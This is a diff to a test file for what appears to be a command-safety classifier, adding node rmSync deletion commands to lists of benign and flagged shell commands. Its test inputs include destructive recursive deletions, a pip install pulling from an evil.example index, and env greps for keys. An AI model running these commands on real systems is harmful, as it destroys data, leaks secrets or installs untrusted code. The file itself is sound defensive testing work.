@@ -119,6 +119,7 @@ describe("what is not dangerous although it looks like it", () => {
     "tail -n 100 /var/log/syslog",
     "cat /etc/fstab",
     "rm -rf /tmp/test_dir",
+    "node -e \"require('fs').rmSync('dist', { recursive: true })\"",
     "env | grep -i node",
     'eval "$(direnv hook bash)"',
   ])
@@ -138,6 +139,9 @@ describe("what is not dangerous although it looks like it", () => {
       "pip install x --index-url https://pypi.org/simple --extra-index-url http://evil.example",
       "tail /var/log/auth.log",
       "rm -rf /tmp/*",
+      "node -e \"require('fs').rmSync('src', { recursive: true })\"",
+      "node -e \"fs.rmSync('dist'); fs.rmSync(process.argv[2])\"",
+      "node -e \"fs.rmSync('../dist', { recursive: true })\"",
       "mv src /tmp/x && rm -rf /tmp/x",
       "env | grep -i key",
       "env | grep -v x",
